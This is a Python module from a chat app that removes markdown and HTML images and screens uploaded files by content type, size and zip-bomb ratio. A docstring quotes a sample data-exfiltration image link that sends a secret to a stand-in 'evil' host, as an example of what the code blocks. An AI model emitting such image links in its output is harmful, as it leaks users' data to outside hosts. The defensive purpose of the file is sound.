"""What the chat shows and accepts safely: markdown without remote images, uploads checked by content."""

from __future__ import annotations

import re
import zipfile
from dataclasses import dataclass
from io import BytesIO

from core.errors import BadInputError

#: ``![alt](url)`` and ``![alt][ref]`` images, and raw ``<img>`` tags.
_MD_IMAGE = re.compile(r"!\[([^\]]*)\]\((?:<[^>]*>|[^)])*\)")
_MD_IMAGE_REF = re.compile(r"!\[([^\]]*)\]\[[^\]]*\]")
_HTML_IMG = re.compile(r"<\s*img\b[^>]*>", re.IGNORECASE)
#: Reference definitions (``[ref]: http://...``) may feed image references; they are shown as text.
_REF_DEF = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*\S+.*$", re.MULTILINE)

#: File kinds the ingest pipeline reads, by the type sniffed from content.
ALLOWED_KINDS = {"pdf", "docx", "pptx", "xlsx", "png", "jpg", "tif", "txt", "md", "html", "csv"}
#: Extensions that mean "text" when the content is text.
TEXT_EXTENSIONS = {"txt": "txt", "md": "md", "markdown": "md", "html": "html", "htm": "html", "csv": "csv"}
_EXTENSION_ALIASES = {"jpeg": "jpg", "tiff": "tif"}
#: Sum of uncompressed sizes a DOCX/XLSX/PPTX may expand to, and the largest ratio allowed.
MAX_UNZIPPED_BYTES = 300 * 1024 * 1024
MAX_ZIP_RATIO = 200


def strip_remote_images(markdown: str) -> str:
    """Markdown with every image replaced by a plain note, so no remote host is ever fetched.

    Answers quote retrieved documents, which may carry tracking pixels or data-exfiltration
    images (``![x](https://evil/?q=secret)``); the chat never renders them.
    """
    text = _MD_IMAGE.sub(lambda m: f"[image removed: {m.group(1) or 'untitled'}]", markdown)
    text = _MD_IMAGE_REF.sub(lambda m: f"[image removed: {m.group(1) or 'untitled'}]", text)
    text = _HTML_IMG.sub("[image removed]", text)
    text = text.replace("![", "!\\[")  # anything image-like left over is shown as text
    return _REF_DEF.sub(lambda m: m.group(0).replace("[", "\\[", 1), text)


#: Characters that give markdown meaning; a file name is shown with each of them escaped.
_MARKDOWN_CHARS = re.compile(r"([\\`*_{}\[\]()#+\-.!<>|~])")


def plain_name(name: str) -> str:
    """A file name as literal markdown text: ``![x](http://host/p)`` shows as typed, never as an image."""
    return _MARKDOWN_CHARS.sub(r"\\\1", name.replace("\n", " ").replace("\r", " "))


@dataclass(frozen=True)
class UploadLimits:
    """How many files and how large an upload may be."""

    max_files: int = 10
    max_file_bytes: int = 50 * 1024 * 1024


def sniff_kind(name: str, data: bytes) -> str:
    """The file's kind from its content (magic bytes), cross-checked with its extension.

    Raises BadInputError for unknown content or a name that disguises another type
    (for example an executable renamed ``report.pdf``).
    """
    import filetype

    extension = name.rsplit(".", 1)[-1].lower() if "." in name else ""
    guessed = filetype.guess(data[:8192])
    if guessed is not None:
        kind = {"jpeg": "jpg", "tiff": "tif"}.get(guessed.extension, guessed.extension)
        if kind == "zip" or kind in {"docx", "xlsx", "pptx"}:
            kind = _office_kind(data, extension)
        if kind not in ALLOWED_KINDS:
            raise BadInputError(f"{name}: files of type {guessed.mime} cannot be ingested.")
        if extension and _EXTENSION_ALIASES.get(extension, extension) != kind:
            raise BadInputError(
                f"{name}: the name says .{extension} but the content is {guessed.mime}; "
                "rename it or upload the real file."
            )
        return kind
    if _looks_like_text(data):
        if extension and extension not in TEXT_EXTENSIONS:
            raise BadInputError(f"{name}: the name says .{extension} but the content is plain text.")
        return TEXT_EXTENSIONS.get(extension, "txt")
    raise BadInputError(f"{name}: the content is not a document type tradeassist can read.")


def _looks_like_text(data: bytes) -> bool:
    sample = data[:8192]
    if b"\x00" in sample:
        return False
    try:
        sample.decode("utf-8")
    except UnicodeDecodeError as exc:
        # A multi-byte character cut at the end of the sample is still text.
        if exc.start < len(sample) - 4:
            return False
    return True


def _office_kind(data: bytes, extension: str) -> str:
    try:
        archive = zipfile.ZipFile(BytesIO(data))
    except zipfile.BadZipFile as exc:
        raise BadInputError("The file looks like an Office document but is not a valid one.") from exc
    names = set(archive.namelist())
    total = sum(info.file_size for info in archive.infolist())
    packed = max(1, sum(info.compress_size for info in archive.infolist()))
    if total > MAX_UNZIPPED_BYTES or total / packed > MAX_ZIP_RATIO:
        raise BadInputError("The document expands to far more data than it holds (a zip bomb?).")
    for prefix, kind in (("word/", "docx"), ("xl/", "xlsx"), ("ppt/", "pptx")):
        if any(n.startswith(prefix) for n in names):
            return kind
    raise BadInputError(f"A .{extension or 'zip'} archive is not a document tradeassist can read.")


def check_upload(files: list[tuple[str, bytes]], limits: UploadLimits) -> list[str]:
    """Check a batch of uploads; returns each file's kind, or raises with a clear message."""
    if not files:
        raise BadInputError("No file was uploaded.")
    if len(files) > limits.max_files:
        raise BadInputError(f"{len(files)} files at once is too many; the limit is {limits.max_files}.")
    kinds = []
    for name, data in files:
        if len(data) > limits.max_file_bytes:
            raise BadInputError(
                f"{name} is {len(data) / 1e6:.1f} MB; the limit is {limits.max_file_bytes / 1e6:.0f} MB."
            )
        if not data:
            raise BadInputError(f"{name} is empty.")
        kinds.append(sniff_kind(name, data))
    return kinds


def screen_upload(
    files: list[tuple[str, bytes]], limits: UploadLimits
) -> tuple[list[tuple[str, bytes, str]], list[tuple[str, str]]]:
    """Split a batch into accepted ``(name, data, kind)`` and refused ``(name, reason)`` files.

    Only a batch that is empty or has too many files is refused as a whole; otherwise each bad
    file fails alone and the others go in.
    """
    if not files:
        raise BadInputError("No file was uploaded.")
    if len(files) > limits.max_files:
        raise BadInputError(f"{len(files)} files at once is too many; the limit is {limits.max_files}.")
    accepted, refused = [], []
    for name, data in files:
        try:
            accepted.append((name, data, check_upload([(name, data)], limits)[0]))
        except BadInputError as exc:
            refused.append((name, str(exc)))
    return accepted, refused
